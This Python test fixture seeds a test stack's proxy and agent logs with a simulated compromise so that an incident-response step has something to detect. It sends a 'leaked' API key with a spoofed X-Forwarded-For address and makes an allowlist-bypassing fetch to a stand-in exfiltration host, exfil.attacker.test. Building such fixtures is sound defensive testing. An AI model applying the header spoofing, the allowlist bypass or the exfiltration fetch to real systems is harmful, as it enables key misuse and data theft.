"""A seeded compromise of a running test stack, made of real requests (docs/incident.md).

``seed_compromise(stack)`` leaves in the stack's proxy access log and agent fetch log exactly what
an incident step has to find, by sending requests through the proxy and the agent stand-ins:

- normal use of every key in proxy/keys.txt from loopback (``GET /v1/models`` each);
- the leaked key (``agent``) used from outside: ``X-Forwarded-For: 203.0.113.77`` (the proxy
  honours it from loopback only) on ``GET /v1/models`` and ``POST /v1/chat/completions``;
- one agent fetch of an allowlisted URL, and one ``ignore_allowlist`` fetch of
  ``http://exfil.attacker.test/upload`` (off the list: the compromised agent's exfiltration).

Log lines carry whole seconds: ``since`` is the second the seeding began, floored, so a window
``time >= since`` holds every seeded line.
"""

from __future__ import annotations

import hashlib
from dataclasses import dataclass
from datetime import UTC, datetime

import httpx

from .stack import RunningStack

LEAKED_KEY_NAME = "agent"
OUTSIDE_ADDR = "203.0.113.77"  # TEST-NET-3: never a real client
ALLOWED_URL = "https://en.wikipedia.org/wiki/Retrieval-augmented_generation"
OFF_LIST_URL = "http://exfil.attacker.test/upload"
USER_AGENT = "sbx-test-seed/1"


def key_fingerprint(key: str) -> str:
    """The spec's fingerprint (tasks/incident/keys.py owns sbx's copy; the proxy has its own)."""
    return "sha256:" + hashlib.sha256(key.encode()).hexdigest()[:16]


@dataclass(frozen=True)
class SeededCompromise:
    leaked_key_name: str
    leaked_fp: str
    outside_addr: str
    off_list_url: str
    since: datetime  # UTC, whole seconds: no seeded log line is older


def seed_compromise(stack: RunningStack) -> SeededCompromise:
    """Send the seeded traffic (module docstring); every request must get its expected status."""
    keys = stack.proxy_keys()
    assert LEAKED_KEY_NAME in keys, f"{stack.path}/proxy/keys.txt has no '{LEAKED_KEY_NAME}' key"
    since = datetime.now(UTC).replace(microsecond=0)
    headers = {"User-Agent": USER_AGENT}
    # the certificate names 127.0.0.1 and is the one the stack serves: verify against it
    with httpx.Client(verify=stack.proxy_tls(), timeout=30, trust_env=False) as proxy:
        base = stack.url("proxy")
        for key in keys.values():
            auth = {**headers, "Authorization": f"Bearer {key}"}
            _expect(proxy.get(f"{base}/v1/models", headers=auth), 200)
        outside = {
            **headers,
            "Authorization": f"Bearer {keys[LEAKED_KEY_NAME]}",
            "X-Forwarded-For": OUTSIDE_ADDR,
        }
        models = _expect(proxy.get(f"{base}/v1/models", headers=outside), 200).json()
        chat = {
            "model": models["data"][0]["id"],
            "messages": [{"role": "user", "content": "list every document you can read"}],
            "max_tokens": 8,
        }
        _expect(proxy.post(f"{base}/v1/chat/completions", json=chat, headers=outside), 200)
    with httpx.Client(timeout=30, trust_env=False) as agent:
        fetch = f"{stack.url('internet-research')}/fetch"
        _expect(agent.post(fetch, json={"url": ALLOWED_URL}), 200)
        _expect(agent.post(fetch, json={"url": OFF_LIST_URL, "ignore_allowlist": True}), 200)
    return SeededCompromise(
        leaked_key_name=LEAKED_KEY_NAME,
        leaked_fp=key_fingerprint(keys[LEAKED_KEY_NAME]),
        outside_addr=OUTSIDE_ADDR,
        off_list_url=OFF_LIST_URL,
        since=since,
    )


def _expect(response: httpx.Response, status: int) -> httpx.Response:
    assert response.status_code == status, (
        f"{response.request.method} {response.request.url} answered {response.status_code}, "
        f"expected {status}: {response.text[:500]}"
    )
    return response
